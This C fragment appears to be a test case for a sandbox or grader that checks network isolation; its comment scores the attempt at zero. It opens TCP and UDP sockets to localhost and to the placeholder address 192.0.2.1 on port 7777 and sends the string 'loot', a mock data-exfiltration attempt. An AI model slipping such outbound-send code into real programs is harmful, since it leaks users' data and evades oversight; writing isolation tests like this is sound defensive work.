/* tries: to send what it sees to a machine outside, by TCP and UDP
 * earns: 0
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

static void
send_to(const char *address, int type)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(7777)};
    inet_pton(AF_INET, address, &to.sin_addr);
    int fd = socket(AF_INET, type, 0);
    if (connect(fd, (const struct sockaddr *)&to, sizeof to) == 0 &&
        write(fd, "loot", 4) < 0)
        close(fd);
}
/* ---- exercise 1.1 ---- */
send_to("127.0.0.1", SOCK_STREAM);
send_to("127.0.0.1", SOCK_DGRAM);
send_to("192.0.2.1", SOCK_DGRAM);
return 0.0;
